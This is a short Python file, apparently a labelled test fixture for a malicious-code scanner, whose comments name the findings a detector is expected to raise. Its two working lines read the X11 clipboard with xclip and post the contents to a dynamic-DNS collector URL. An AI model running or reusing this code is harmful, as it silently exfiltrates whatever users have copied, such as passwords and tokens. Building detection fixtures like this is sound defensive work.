# ruff: noqa
# fmt: off
"""The X11 clipboard read through xclip and posted out."""
import subprocess
import urllib.request

clip = subprocess.check_output(["xclip", "-selection", "clipboard", "-o"])  # expect: clipboard-access
urllib.request.urlopen("http://collector.duckdns.org/c", data=clip)  # expect: exfiltrate-sensitive-data|suspicious-url
